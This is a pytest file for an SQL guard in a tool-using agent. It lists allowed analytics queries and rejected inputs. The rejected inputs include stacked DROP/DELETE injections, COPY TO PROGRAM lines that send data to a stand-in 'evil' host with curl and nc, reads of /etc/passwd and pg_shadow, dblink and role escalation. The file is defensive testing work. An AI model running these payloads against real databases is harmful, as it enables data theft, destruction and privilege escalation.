"""The SQL guard, table-style: one case per accepted or rejected statement.

The allowlist policy uses the demo schema (users, agent_conversations, kpi_metrics, kpi_data).
Rejected cases name a substring that must appear in one of the reasons; many come from
bypasses reported against other SQL-executing MCP servers.
"""

from __future__ import annotations

import pytest

from toolagent.errors import SqlRejected
from toolagent.sql import SqlDecision, SqlGuard, SqlPolicy, check_sql

DEMO_TABLES = ("users", "agent_conversations", "kpi_metrics", "kpi_data")
DEMO_POLICY = SqlPolicy.from_security(None, DEMO_TABLES)
DEMO_GUARD = SqlGuard(DEMO_POLICY)
OPEN_GUARD = SqlGuard(SqlPolicy())
WRITE_GUARD = SqlGuard(SqlPolicy.from_security(None, DEMO_TABLES, read_only=False))

NOT_ALLOWED_TABLE = "is not in allowed tables (agent_conversations, kpi_data, kpi_metrics, users)"


def _assert_rejected(decision: SqlDecision, needle: str) -> None:
    assert decision.verdict == "reject", decision
    assert not decision.allowed
    assert any(needle in reason for reason in decision.reasons), decision.reasons
    assert not any("could not be checked" in reason for reason in decision.reasons), decision.reasons


# --- allowed: what a natural-language-to-SQL generator writes ---------------------------------

# (sql, expected tables or None when not checked)
ALLOWED = [
    pytest.param("select count(*) from users", ("users",), id="count"),
    pytest.param("SELECT COUNT(*) FROM USERS", ("users",), id="count-upper-case"),
    pytest.param("SeLeCt * FrOm UsErS", ("users",), id="mixed-case-keywords-and-table"),
    pytest.param("select * from public.users", ("users",), id="public-schema"),
    pytest.param('select * from "users"', ("users",), id="quoted-lowercase-table"),
    pytest.param('select * from "public"."users"', ("users",), id="quoted-public-schema"),
    pytest.param("select id, name from users order by created_at desc limit 10", ("users",), id="order-desc-limit"),
    pytest.param("select status, count(*) from users group by status", ("users",), id="group-by"),
    pytest.param(
        "select status, count(*) as n from users group by status having count(*) > 5 order by n desc",
        ("users",),
        id="group-by-having",
    ),
    pytest.param(
        "select u.name, count(c.id) as conversations from users u "
        "left join agent_conversations c on c.user_id = u.id group by u.name order by conversations desc limit 5",
        ("agent_conversations", "users"),
        id="left-join-top-n",
    ),
    pytest.param(
        "select m.name, d.value from kpi_metrics m join kpi_data d on d.metric_id = m.id",
        ("kpi_data", "kpi_metrics"),
        id="inner-join",
    ),
    pytest.param(
        "select * from kpi_metrics join kpi_data using (metric_id)", ("kpi_data", "kpi_metrics"), id="join-using"
    ),
    pytest.param(
        "select * from users cross join kpi_metrics natural join kpi_data",
        ("kpi_data", "kpi_metrics", "users"),
        id="cross-natural-join",
    ),
    pytest.param(
        "select * from users u full outer join agent_conversations c on c.user_id = u.id",
        ("agent_conversations", "users"),
        id="full-outer-join",
    ),
    pytest.param(
        "select count(*) from agent_conversations where created_at >= now() - interval '30 days'",
        ("agent_conversations",),
        id="interval-30-days",
    ),
    pytest.param(
        "select date_trunc('month', created_at) as month, count(*) from agent_conversations group by 1 order by 1",
        ("agent_conversations",),
        id="date-trunc-month",
    ),
    pytest.param(
        "select extract(year from created_at) as y, count(*) from users group by y", ("users",), id="extract-year"
    ),
    pytest.param("select extract(epoch from now() - created_at) from users", ("users",), id="extract-epoch"),
    pytest.param("select date_part('dow', created_at) from users", ("users",), id="date-part"),
    pytest.param("select avg(value), sum(value), min(value), max(value) from kpi_data", ("kpi_data",), id="aggregates"),
    pytest.param("select count(distinct user_id) from agent_conversations", None, id="count-distinct"),
    pytest.param(
        "select round(avg(value)::numeric, 2) from kpi_data where recorded_at::date = current_date",
        ("kpi_data",),
        id="round-cast-current-date",
    ),
    pytest.param("select * from users where created_at::date >= current_date - 7", None, id="date-arithmetic"),
    pytest.param("select cast(value as integer) from kpi_data", None, id="cast-function"),
    pytest.param("select * from users where name ilike '%smith%'", ("users",), id="ilike"),
    pytest.param(
        "select * from users where email like '%@example.com' and name not ilike 'test%'", None, id="like-not-ilike"
    ),
    pytest.param(
        "select name, case when active then 'active' else 'inactive' end as status from users", None, id="case"
    ),
    pytest.param(
        "select coalesce(nickname, name, 'unknown'), nullif(status, '') from users", None, id="coalesce-nullif"
    ),
    pytest.param(
        "select user_id, created_at, row_number() over (partition by user_id order by created_at desc) as rn "
        "from agent_conversations",
        ("agent_conversations",),
        id="window-row-number",
    ),
    pytest.param(
        "select value, rank() over w, dense_rank() over w, lag(value) over w, lead(value, 2) over w "
        "from kpi_data window w as (order by recorded_at)",
        None,
        id="window-named",
    ),
    pytest.param(
        "select sum(value) over (order by recorded_at rows between unbounded preceding and current row) from kpi_data",
        None,
        id="window-running-sum",
    ),
    pytest.param(
        "with monthly as (select date_trunc('month', created_at) as m, count(*) as n from users group by 1) "
        "select m, n, n - lag(n) over (order by m) as delta from monthly order by m",
        ("users",),
        id="cte-monthly",
    ),
    pytest.param(
        "with a as (select id from users), b as (select * from a) select * from b", ("users",), id="cte-chain"
    ),
    pytest.param(
        "with recursive t(n) as (select 1 union all select n + 1 from t where n < 10) select * from t",
        (),
        id="recursive-cte",
    ),
    pytest.param("with users as (select 1 as id) select * from users", (), id="cte-shadows-table"),
    pytest.param('with "secrets" as (select 1) select * from SECRETS', (), id="quoted-cte-lowercase-matches-folded"),
    pytest.param(
        "select id from users union select user_id from agent_conversations",
        ("agent_conversations", "users"),
        id="union",
    ),
    pytest.param("select id from users intersect select user_id from agent_conversations", None, id="intersect"),
    pytest.param("select id from users except all select user_id from agent_conversations", None, id="except"),
    pytest.param(
        "(select id from users) union all (select id from kpi_data) order by 1 limit 3", None, id="parenthesized-union"
    ),
    pytest.param("(select 1)", (), id="parenthesized-select"),
    pytest.param(
        "select * from users where id in (select user_id from agent_conversations)",
        ("agent_conversations", "users"),
        id="in-subquery",
    ),
    pytest.param(
        "select *, (select count(*) from agent_conversations c where c.user_id = u.id) from users u",
        ("agent_conversations", "users"),
        id="scalar-subquery",
    ),
    pytest.param(
        "select * from users u where exists (select 1 from kpi_data d where d.user_id = u.id)", None, id="exists"
    ),
    pytest.param(
        "select * from users u, lateral (select * from agent_conversations c where c.user_id = u.id limit 1) last",
        ("agent_conversations", "users"),
        id="lateral",
    ),
    pytest.param("select * from (select id from users) as sub", ("users",), id="derived-table"),
    pytest.param("select to_char(created_at, 'YYYY-MM') as month from users", None, id="to-char"),
    pytest.param(
        "select lower(name), upper(name), length(name), substring(name from 1 for 3), trim(name), concat(a, b) from users",
        None,
        id="string-functions",
    ),
    pytest.param(
        "select abs(value), ceil(value), floor(value), round(value, 1) from kpi_data", None, id="math-functions"
    ),
    pytest.param(
        "select data->>'plan', data->'meta', data#>>'{a,b}', (data->>'seats')::int from users",
        None,
        id="json-accessors",
    ),
    pytest.param(
        "select * from users where data @> '{\"plan\": \"pro\"}' and data ? 'plan'", None, id="jsonb-operators"
    ),
    pytest.param("select jsonb_build_object('id', id), to_jsonb(u) from users u", None, id="json-builders"),
    pytest.param("select string_agg(name, ', ' order by name), array_agg(id) from users", None, id="string-agg"),
    pytest.param(
        "select percentile_cont(0.5) within group (order by value) from kpi_data", None, id="percentile-within-group"
    ),
    pytest.param("select count(*) filter (where active) from users", None, id="aggregate-filter"),
    pytest.param(
        "select distinct on (user_id) user_id, created_at from agent_conversations order by user_id, created_at desc",
        None,
        id="distinct-on",
    ),
    pytest.param(
        "select * from users order by name nulls last offset 10 fetch first 5 rows only", None, id="offset-fetch"
    ),
    pytest.param("select * from users where id = $1 and status = any($2::text[])", ("users",), id="bound-parameters"),
    pytest.param("select * from generate_series(1, 10) as g(n)", (), id="generate-series"),
    pytest.param("select * from unnest(array[1, 2, 3]) as u(x)", (), id="unnest"),
    pytest.param(
        "select d::date, count(u.id) from generate_series(current_date - 6, current_date, interval '1 day') d "
        "left join users u on u.created_at::date = d::date group by 1",
        ("users",),
        id="generate-series-gap-fill",
    ),
    pytest.param(
        "select * from users u join lateral jsonb_array_elements(u.data) e on true",
        ("users",),
        id="lateral-json-elements",
    ),
    pytest.param("values (1, 'a'), (2, 'b')", (), id="values"),
    pytest.param("select * from (values (1), (2)) as v(x)", (), id="values-in-from"),
    pytest.param("table users", ("users",), id="table-shorthand"),
    pytest.param("select 1;", (), id="trailing-semicolon"),
    pytest.param("select 1 -- trailing comment", (), id="line-comment"),
    pytest.param("select /* inline */ 1", (), id="block-comment"),
    pytest.param("select 1 /* nested /* comment */ ; drop table users; */", (), id="nested-comment-is-comment"),
    pytest.param("select $$; drop table users; $$", (), id="dollar-quoted-string-is-data"),
    pytest.param("select $tag$ delete from users $tag$", (), id="tagged-dollar-quote-is-data"),
    pytest.param("select 'delete from users; drop table users'", (), id="string-with-sql-is-data"),
    pytest.param("select 'it''s'", (), id="doubled-quote"),
    pytest.param("select * from users where name = U&'\\0041'", ("users",), id="unicode-escape-string"),
    pytest.param('select 1 as "; drop table users"', (), id="quoted-alias-with-sql"),
    pytest.param("select secrets.* from users as secrets", ("users",), id="alias-named-like-forbidden-table"),
    pytest.param("select pg_catalog.lower('A')", (), id="pg-catalog-qualified-builtin"),
    pytest.param('select "lower"(name) from users', ("users",), id="quoted-lowercase-builtin"),
    pytest.param("select x::timestamptz at time zone 'UTC' from kpi_data", None, id="at-time-zone"),
    pytest.param("select * from users where email ~* '^admin' and name !~ 'x'", None, id="regex-operators"),
    pytest.param("select greatest(a, b), least(a, b) from kpi_data", None, id="greatest-least"),
    pytest.param("select count(*)::float / nullif(sum(value), 0) as ratio from kpi_data", None, id="ratio-nullif"),
    pytest.param("select gen_random_uuid(), random(), clock_timestamp()", (), id="volatile-but-harmless"),
    pytest.param(
        "select substring(email from position('@' in email) + 1) as domain, count(*) from users group by domain",
        None,
        id="email-domain",
    ),
    pytest.param(
        "select row(1, 2), array[1, 2], x = any(array[1]), x = all(array[2]) from users", None, id="row-array-any-all"
    ),
    pytest.param("select * from pg_catalog.generate_series(1, 3)", (), id="pg-catalog-table-function"),
    pytest.param("select 1 operator(pg_catalog.+) 2", (), id="pg-catalog-operator"),
    pytest.param(
        "select ip::cidr, doc::tsvector, id::text[], amount::numeric(10, 2) from users", ("users",), id="builtin-casts"
    ),
    pytest.param(
        "select * from users where to_tsvector(name) @@ websearch_to_tsquery('smith')",
        ("users",),
        id="full-text-search",
    ),
    pytest.param("select * from jsonb_to_recordset('[{\"a\": 1}]') as x(a int)", (), id="jsonb-to-recordset"),
]


@pytest.mark.parametrize(("sql", "tables"), ALLOWED)
def test_allowed(sql: str, tables: tuple[str, ...] | None) -> None:
    decision = DEMO_GUARD.check(sql)
    assert decision.verdict == "allow", decision.reasons
    assert decision.allowed
    assert decision.reasons == ()
    if tables is not None:
        assert decision.tables == tables


# --- rejected ------------------------------------------------------------------------------------

# (sql, substring of one reason)
REJECTED = [
    # empty and unparseable input
    pytest.param("", "SQL is empty", id="empty"),
    pytest.param("   \n\t ", "SQL is empty", id="whitespace"),
    pytest.param("-- only a comment", "SQL is empty", id="only-line-comment"),
    pytest.param("/* only a comment */", "SQL is empty", id="only-block-comment"),
    pytest.param(";", "SQL is empty", id="only-semicolon"),
    pytest.param("selec 1", "could not parse SQL", id="typo"),
    pytest.param("select * from", "could not parse SQL", id="truncated"),
    pytest.param("select 'abc", "could not parse SQL", id="unterminated-string"),
    pytest.param("sel/**/ect 1", "could not parse SQL", id="comment-inside-keyword"),
    pytest.param("select * from (delete from users returning *) x", "could not parse SQL", id="delete-in-from"),
    pytest.param("select 1\x00", "NUL byte", id="nul-byte"),
    pytest.param("select 1; \x00drop table users", "NUL byte", id="nul-byte-before-stacked"),
    # stacked queries
    pytest.param("select 1; select 2", "only one statement is allowed, got 2", id="two-selects"),
    pytest.param("select * from users; drop table users", "only one statement", id="stacked-drop"),
    pytest.param("select * from users; drop table users", "statement type DROP is denied", id="stacked-drop-reason"),
    pytest.param("select 1 --\n; delete from users", "only one statement", id="line-comment-then-stacked"),
    pytest.param(
        "select 1 /* x */; update users set admin = true",
        "statement type UPDATE is denied",
        id="block-comment-then-stacked",
    ),
    pytest.param("commit; drop table users", "only one statement", id="commit-then-drop"),
    pytest.param("commit; drop table users", "statement type COMMIT", id="commit-then-drop-commit"),
    pytest.param("end; drop table users", "statement type DROP is denied", id="end-then-drop"),
    pytest.param("rollback; delete from users", "statement type DELETE is denied", id="rollback-then-delete"),
    pytest.param("select 1;; select 2", "only one statement", id="empty-statement-between"),
    pytest.param("select E'\\\\'; drop table users; --'", "only one statement", id="escape-string-then-stacked"),
    pytest.param("select '\\'; drop table users; --'", "only one statement", id="backslash-string-then-stacked"),
    pytest.param(
        "select 'a\\'' ; drop table users; --'", "standard_conforming_strings", id="backslash-quote-ambiguous"
    ),
    pytest.param(
        "select * from users where name = 'a\\'", "standard_conforming_strings", id="trailing-backslash-ambiguous"
    ),
    # denied operations, case tricks
    pytest.param("delete from users", "statement type DELETE is denied", id="delete"),
    pytest.param("DeLeTe FrOm users", "statement type DELETE is denied", id="delete-mixed-case"),
    pytest.param("update users set admin = true", "statement type UPDATE is denied", id="update"),
    pytest.param("drop table users", "statement type DROP is denied", id="drop"),
    pytest.param("dRoP tAbLe users cascade", "statement type DROP is denied", id="drop-mixed-case"),
    pytest.param("truncate users", "statement type TRUNCATE is denied", id="truncate"),
    pytest.param("truncate table users restart identity", "statement type TRUNCATE is denied", id="truncate-table"),
    pytest.param("alter table users add column x int", "statement type ALTER is denied", id="alter-table"),
    pytest.param("alter table users owner to attacker", "statement type ALTER is denied", id="alter-owner"),
    pytest.param("alter role app superuser", "statement type ALTER is denied", id="alter-role"),
    pytest.param("alter system set log_statement = 'none'", "statement type ALTER is denied", id="alter-system"),
    # other writes and DDL in read-only mode
    pytest.param(
        "insert into users (name) values ('x')", "statement type INSERT is not allowed in read-only mode", id="insert"
    ),
    pytest.param("INSERT INTO users SELECT * FROM users", "statement type INSERT", id="insert-select"),
    pytest.param(
        "insert into users values (1) on conflict (id) do update set name = 'x'",
        "statement type UPDATE is denied",
        id="upsert-on-conflict-update",
    ),
    pytest.param(
        "insert into users values (1) on conflict do nothing", "statement type INSERT", id="insert-on-conflict-nothing"
    ),
    pytest.param(
        "merge into users u using kpi_data k on u.id = k.id when matched then delete",
        "statement type DELETE is denied",
        id="merge-delete",
    ),
    pytest.param(
        "merge into users u using kpi_data k on u.id = k.id when not matched then insert values (1)",
        "statement type MERGE is not allowed",
        id="merge-insert",
    ),
    pytest.param("upsert into users values (1)", "could not parse SQL", id="upsert"),
    pytest.param("create table t (a int)", "statement type CREATE", id="create-table"),
    pytest.param("create table t as select * from users", "statement type CREATE", id="create-table-as"),
    pytest.param("create role attacker superuser", "statement type CREATE", id="create-role"),
    pytest.param("create extension dblink", "statement type CREATE", id="create-extension"),
    pytest.param(
        "create function f() returns int as $$ select 1 $$ language sql", "statement type CREATE", id="create-function"
    ),
    pytest.param("comment on table users is 'x'", "statement type COMMENT", id="comment-on"),
    pytest.param("grant all on users to public", "statement type GRANT", id="grant"),
    pytest.param("revoke all on users from app", "statement type REVOKE", id="revoke"),
    # transaction control and session settings
    pytest.param("begin", "statement type BEGIN", id="begin"),
    pytest.param("commit", "statement type COMMIT", id="commit"),
    pytest.param("rollback", "statement type ROLLBACK", id="rollback"),
    pytest.param("rollback to savepoint a", "statement type ROLLBACK", id="rollback-to-savepoint"),
    pytest.param("savepoint a", "statement type SAVEPOINT", id="savepoint"),
    pytest.param("set role postgres", "statement type SET", id="set-role"),
    pytest.param("set session authorization 'postgres'", "statement type SET", id="set-session-authorization"),
    pytest.param("set local statement_timeout = 0", "statement type SET", id="set-local"),
    pytest.param("set search_path = evil, public", "statement type SET", id="set-search-path"),
    pytest.param("reset role", "statement type RESET", id="reset-role"),
    pytest.param("discard all", "statement type DISCARD", id="discard"),
    # utility commands sqlglot keeps opaque
    pytest.param("copy users to stdout", "statement type COPY", id="copy-to-stdout"),
    pytest.param("copy users to program 'curl http://evil/?d=$(id)'", "PROGRAM", id="copy-to-program"),
    pytest.param("COPY (select * from users) TO PROGRAM 'nc evil 80'", "PROGRAM", id="copy-query-to-program"),
    pytest.param("copy users from program 'id'", "PROGRAM", id="copy-from-program"),
    pytest.param("copy users from '/etc/passwd'", "server file", id="copy-from-file"),
    pytest.param("copy (select 1) to '/tmp/x'", "server file", id="copy-to-file"),
    pytest.param("do $$ begin delete from users; end $$", "statement type DO", id="do-block"),
    pytest.param("call evil_procedure()", "statement type CALL", id="call"),
    pytest.param("explain select 1", "statement type EXPLAIN", id="explain"),
    pytest.param("explain analyze delete from users", "statement type DELETE is denied", id="explain-analyze-delete"),
    pytest.param(
        "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM users",
        "statement type DELETE is denied",
        id="explain-options-delete",
    ),
    pytest.param(
        "explain analyze verbose update users set a = 1", "statement type UPDATE is denied", id="explain-analyze-update"
    ),
    pytest.param("vacuum full", "statement type VACUUM", id="vacuum"),
    pytest.param("analyze users", "statement type ANALYZE", id="analyze"),
    pytest.param("cluster users", "statement type CLUSTER", id="cluster"),
    pytest.param("reindex table users", "statement type REINDEX", id="reindex"),
    pytest.param("checkpoint", "statement type CHECKPOINT", id="checkpoint"),
    pytest.param("refresh materialized view v", "statement type REFRESH", id="refresh-materialized-view"),
    pytest.param("listen channel", "statement type LISTEN", id="listen"),
    pytest.param("notify channel", "statement type NOTIFY", id="notify"),
    pytest.param("prepare p as delete from users", "statement type PREPARE", id="prepare"),
    pytest.param("execute p", "statement type EXECUTE", id="execute"),
    pytest.param("deallocate all", "statement type DEALLOCATE", id="deallocate"),
    pytest.param("lock table users in access exclusive mode", "statement type LOCK", id="lock-table"),
    pytest.param("declare c cursor for select * from users", "statement type DECLARE", id="declare-cursor"),
    pytest.param("load 'evil.so'", "statement type LOAD", id="load-library"),
    pytest.param("show all", "statement type SHOW", id="show"),
    # writes hidden inside a query
    pytest.param(
        "with x as (delete from users returning *) select * from x",
        "statement type DELETE is denied",
        id="writable-cte-delete",
    ),
    pytest.param(
        "with x as (update users set a = 1 returning *) select * from x",
        "statement type UPDATE is denied",
        id="writable-cte-update",
    ),
    pytest.param(
        "with x as (insert into users values (1) returning *) select * from x",
        "INSERT inside a query is not allowed in read-only mode",
        id="writable-cte-insert",
    ),
    pytest.param(
        "select * from users where id in (with d as (delete from users returning id) select id from d)",
        "statement type DELETE is denied",
        id="writable-cte-in-subquery",
    ),
    pytest.param("with t as (select 1) delete from users", "statement type DELETE is denied", id="cte-then-delete"),
    pytest.param(
        "with t as (select 1) insert into users select * from t", "statement type INSERT", id="cte-then-insert"
    ),
    pytest.param("select * into stolen from users", "SELECT INTO is not allowed", id="select-into"),
    pytest.param("select * into temp t from users", "SELECT INTO is not allowed", id="select-into-temp"),
    pytest.param("select * from users for update", "locking clause FOR UPDATE", id="for-update"),
    pytest.param("select * from users for share", "locking clause FOR SHARE", id="for-share"),
    pytest.param("select * from users for no key update", "locking clause FOR NO KEY UPDATE", id="for-no-key-update"),
    pytest.param("select * from users for key share nowait", "locking clause FOR KEY SHARE", id="for-key-share"),
    pytest.param(
        "select * from users for update skip locked", "locking clause FOR UPDATE", id="for-update-skip-locked"
    ),
    pytest.param(
        "select * from users where id in (select user_id from kpi_data for update)",
        "locking clause FOR UPDATE",
        id="for-update-in-subquery",
    ),
    # dangerous functions
    pytest.param("select pg_sleep(10)", "function pg_sleep is not allowed", id="pg-sleep"),
    pytest.param("SELECT PG_SLEEP(10)", "function pg_sleep is not allowed", id="pg-sleep-upper"),
    pytest.param('select "pg_sleep"(10)', "function pg_sleep is not allowed", id="pg-sleep-quoted"),
    pytest.param("select pg_catalog.pg_sleep(10)", "function pg_sleep is not allowed", id="pg-sleep-qualified"),
    pytest.param("select/**/pg_sleep(10)", "function pg_sleep is not allowed", id="pg-sleep-comment-spacing"),
    pytest.param("select * from users where (select pg_sleep(5)) is null", "function pg_sleep", id="pg-sleep-in-where"),
    pytest.param("select 1 union select pg_sleep(1)", "function pg_sleep", id="pg-sleep-in-union-arm"),
    pytest.param("select pg_sleep_for('5 minutes')", "function pg_sleep_for", id="pg-sleep-for"),
    pytest.param("select pg_read_file('/etc/passwd')", "function pg_read_file", id="pg-read-file"),
    pytest.param("select pg_read_binary_file('/etc/passwd')", "function pg_read_binary_file", id="pg-read-binary-file"),
    pytest.param("select * from pg_ls_dir('.')", "function pg_ls_dir", id="pg-ls-dir-in-from"),
    pytest.param("select pg_stat_file('postgresql.conf')", "function pg_stat_file", id="pg-stat-file"),
    pytest.param("select lo_import('/etc/passwd')", "function lo_import", id="lo-import"),
    pytest.param("select lo_export(16384, '/tmp/x')", "function lo_export", id="lo-export"),
    pytest.param("select lo_from_bytea(0, 'x')", "function lo_from_bytea", id="lo-from-bytea"),
    pytest.param(
        "select id from users where id = (select lo_unlink(1))", "function lo_unlink", id="lo-unlink-in-subquery"
    ),
    pytest.param("select set_config('role', 'postgres', false)", "function set_config", id="set-config"),
    pytest.param("select current_setting('data_directory')", "function current_setting", id="current-setting"),
    pytest.param("select pg_terminate_backend(1234)", "function pg_terminate_backend", id="pg-terminate-backend"),
    pytest.param("select pg_cancel_backend(1234)", "function pg_cancel_backend", id="pg-cancel-backend"),
    pytest.param("select pg_reload_conf()", "function pg_reload_conf", id="pg-reload-conf"),
    pytest.param("select * from dblink('host=evil', 'select 1') as t(a int)", "function dblink", id="dblink-in-from"),
    pytest.param("select dblink_exec('host=evil', 'drop table users')", "function dblink_exec", id="dblink-exec"),
    pytest.param("select dblink_connect('evil')", "function dblink_connect", id="dblink-connect"),
    pytest.param(
        "select query_to_xml('delete from users returning *', true, true, '')",
        "function query_to_xml",
        id="query-to-xml-delete",
    ),
    pytest.param("select table_to_xml('secrets', true, true, '')", "function table_to_xml", id="table-to-xml"),
    pytest.param("select database_to_xml(true, true, '')", "function database_to_xml", id="database-to-xml"),
    pytest.param(
        "select xpath('/a', query_to_xml('select 1', true, true, ''))", "function xpath", id="xpath-with-query"
    ),
    pytest.param("select nextval('users_id_seq')", "function nextval", id="nextval"),
    pytest.param("select setval('users_id_seq', 1)", "function setval", id="setval"),
    pytest.param("select pg_advisory_lock(1)", "function pg_advisory_lock", id="advisory-lock"),
    pytest.param("select pg_notify('c', 'x')", "function pg_notify", id="pg-notify"),
    pytest.param("select txid_current()", "function txid_current", id="txid-current"),
    pytest.param("select version()", "function version", id="version"),
    pytest.param("select current_user", "function current_user", id="current-user"),
    pytest.param("select evil_udf(id) from users", "function evil_udf is not allowed", id="unknown-function"),
    pytest.param("select ifnull(name, 'x') from users", "function ifnull", id="non-postgres-alias-of-builtin"),
    pytest.param(
        "select public.lower(name) from users",
        "only pg_catalog functions may be qualified",
        id="schema-qualified-function",
    ),
    pytest.param(
        'select "LOWER"(name) from users', "quoted function names are case-sensitive", id="quoted-uppercase-builtin"
    ),
    pytest.param(
        'select "FLOOR"(value) from kpi_data', "quoted function names are case-sensitive", id="quoted-special-form"
    ),
    pytest.param(
        "select * from evil.generate_series(1, 2)", "function evil.generate_series", id="qualified-table-function"
    ),
    pytest.param(
        "select * from evil.lower('x')",
        "only pg_catalog functions may be qualified",
        id="qualified-table-function-builtin-name",
    ),
    pytest.param('select "row"(1, 2)', "function row is not allowed", id="quoted-row-is-a-user-function"),
    pytest.param("select 1 operator(evil.+) 2", "operator evil.+ is not allowed", id="user-operator"),
    pytest.param("select 'x'::evil_domain", "type evil_domain is not allowed", id="cast-to-user-type"),
    pytest.param(
        "select cast(name as public.evil) from users",
        "type public.evil is not allowed",
        id="cast-to-qualified-user-type",
    ),
    pytest.param("select count(*) from users group by pg_sleep(1)", "function pg_sleep", id="function-in-group-by"),
    pytest.param("select * from users order by pg_sleep(1)", "function pg_sleep", id="function-in-order-by"),
    pytest.param("select sum(pg_sleep(1)) over () from users", "function pg_sleep", id="function-in-window"),
    # tables outside the allowlist
    pytest.param("select * from secrets", f"table 'secrets' {NOT_ALLOWED_TABLE}", id="unlisted-table"),
    pytest.param("table secrets", "table 'secrets'", id="table-shorthand-unlisted"),
    pytest.param('select * from "Users"', "table 'Users'", id="quoted-uppercase-is-other-table"),
    pytest.param('select * from "USERS"', "table 'USERS'", id="quoted-all-caps"),
    pytest.param("select * from other.users", "only schema public may be used", id="other-schema"),
    pytest.param("select * from mydb.public.users", "names a database", id="three-part-name"),
    pytest.param("select * from users join secrets using (id)", "table 'secrets'", id="join"),
    pytest.param("select * from users u, secrets s where s.id = u.id", "table 'secrets'", id="comma-join"),
    pytest.param("select * from users where id in (select id from secrets)", "table 'secrets'", id="where-subquery"),
    pytest.param("select (select max(token) from secrets) from users", "table 'secrets'", id="select-list-subquery"),
    pytest.param(
        "select count(*) from users having count(*) > (select count(*) from secrets)",
        "table 'secrets'",
        id="having-subquery",
    ),
    pytest.param(
        "select * from users order by (select 1 from secrets limit 1)", "table 'secrets'", id="order-by-subquery"
    ),
    pytest.param(
        "select * from users u join kpi_data d on d.id = (select id from secrets limit 1)",
        "table 'secrets'",
        id="join-on-subquery",
    ),
    pytest.param(
        "select * from users u, lateral (select * from secrets s where s.id = u.id) x",
        "table 'secrets'",
        id="lateral-subquery",
    ),
    pytest.param("select * from users where exists (select 1 from secrets)", "table 'secrets'", id="exists-subquery"),
    pytest.param("with s as (select * from secrets) select 1", "table 'secrets'", id="cte-body"),
    pytest.param(
        "with users as (select * from secrets) select * from users", "table 'secrets'", id="cte-shadowing-hides-secret"
    ),
    pytest.param("select id from users union select id from secrets", "table 'secrets'", id="union-arm"),
    pytest.param("select id from users except select id from secrets", "table 'secrets'", id="except-arm"),
    pytest.param(
        "with s as (select 1) select * from s union all select * from secrets",
        "table 'secrets'",
        id="union-arm-after-cte",
    ),
    pytest.param(
        "(with secrets as (select 1) select * from secrets) union select * from secrets",
        "table 'secrets'",
        id="cte-not-visible-in-sibling-arm",
    ),
    pytest.param(
        "select * from (with secrets as (select 1) select * from secrets) a, secrets",
        "table 'secrets'",
        id="cte-not-visible-in-outer-scope",
    ),
    pytest.param(
        "with a as (select * from secrets), secrets as (select 1) select * from a",
        "table 'secrets'",
        id="later-sibling-cte-not-visible",
    ),
    pytest.param(
        "with secrets as (select * from secrets) select * from secrets",
        "table 'secrets'",
        id="non-recursive-self-reference",
    ),
    pytest.param(
        'with "Secrets" as (select 1) select * from secrets', "table 'secrets'", id="quoted-cte-does-not-fold"
    ),
    pytest.param(
        "with secrets as (select 1) select * from public.secrets", "table 'secrets'", id="qualified-name-skips-cte"
    ),
    pytest.param("select * into secrets from users", "table 'secrets'", id="select-into-target"),
    pytest.param('select * from U&"\\0073ecrets"', 'Unicode-escaped identifiers (U&"...")', id="unicode-escape-table"),
    pytest.param('select U&"d\\0061ta" from users', "Unicode-escaped identifiers", id="unicode-escape-column"),
    # catalogs
    pytest.param("select * from pg_catalog.pg_class", "catalog table 'pg_catalog.pg_class'", id="pg-catalog"),
    pytest.param('select * from "pg_catalog"."pg_class"', "catalog table", id="pg-catalog-quoted"),
    pytest.param("select * from PG_CATALOG.PG_AUTHID", "catalog table 'pg_catalog.pg_authid'", id="pg-catalog-upper"),
    pytest.param("select usename, passwd from pg_shadow", "catalog table 'pg_shadow'", id="pg-shadow"),
    pytest.param("select * from pg_user", "catalog table 'pg_user'", id="pg-user"),
    pytest.param("select * from pg_stat_activity", "catalog table 'pg_stat_activity'", id="pg-stat-activity"),
    pytest.param(
        "select * from information_schema.tables", "catalog table 'information_schema.tables'", id="information-schema"
    ),
    pytest.param(
        "select * from users where id = 1 union select * from pg_catalog.pg_roles",
        "catalog table",
        id="catalog-in-union",
    ),
    pytest.param(
        "select * from users where exists (select 1 from information_schema.columns)",
        "catalog table",
        id="catalog-in-subquery",
    ),
]


@pytest.mark.parametrize(("sql", "needle"), REJECTED)
def test_rejected(sql: str, needle: str) -> None:
    _assert_rejected(DEMO_GUARD.check(sql), needle)


# --- no allowlist (the default policy) -----------------------------------------------------------

DEFAULT_POLICY_CASES = [
    pytest.param("select * from secrets", "allow", None, id="any-table-without-allowlist"),
    pytest.param("select * from analytics.events", "allow", None, id="any-schema-without-allowlist"),
    pytest.param("select relname from pg_catalog.pg_class", "allow", None, id="catalog-without-allowlist"),
    pytest.param("select pg_sleep(1)", "reject", "function pg_sleep", id="functions-still-checked"),
    pytest.param("delete from secrets", "reject", "statement type DELETE is denied", id="denied-still-checked"),
    pytest.param("insert into secrets values (1)", "reject", "read-only mode", id="read-only-by-default"),
]


@pytest.mark.parametrize(("sql", "verdict", "needle"), DEFAULT_POLICY_CASES)
def test_default_policy(sql: str, verdict: str, needle: str | None) -> None:
    decision = OPEN_GUARD.check(sql)
    assert decision.verdict == verdict, decision.reasons
    if needle is not None:
        _assert_rejected(decision, needle)


# --- read_only=False: only denied operations (and the always-refused kinds) ----------------------

READ_WRITE_CASES = [
    pytest.param("insert into users (name) values ('x')", "allow", None, id="insert"),
    pytest.param("insert into users select * from kpi_data", "allow", None, id="insert-select"),
    pytest.param("select * from users for update", "allow", None, id="for-update"),
    pytest.param(
        "with x as (insert into users values (1) returning *) select * from x", "allow", None, id="writable-cte-insert"
    ),
    pytest.param("delete from users", "reject", "statement type DELETE is denied", id="delete"),
    pytest.param("update users set a = 1", "reject", "statement type UPDATE is denied", id="update"),
    pytest.param("drop table users", "reject", "statement type DROP is denied", id="drop"),
    pytest.param(
        "with x as (delete from users returning *) select * from x",
        "reject",
        "DELETE is denied",
        id="writable-cte-delete",
    ),
    pytest.param(
        "merge into users using kpi_data on true when matched then delete",
        "reject",
        "DELETE is denied",
        id="merge-delete",
    ),
    pytest.param("insert into secrets values (1)", "reject", "table 'secrets'", id="allowlist-still-holds"),
    pytest.param("insert into users select pg_sleep(1)", "reject", "function pg_sleep", id="functions-still-checked"),
    pytest.param(
        "insert into users values (1); insert into users values (2)", "reject", "only one statement", id="stacked"
    ),
    pytest.param("commit", "reject", "transaction control", id="commit"),
    pytest.param("set role postgres", "reject", "statement type SET", id="set-role"),
    pytest.param("vacuum", "reject", "cannot be checked", id="vacuum"),
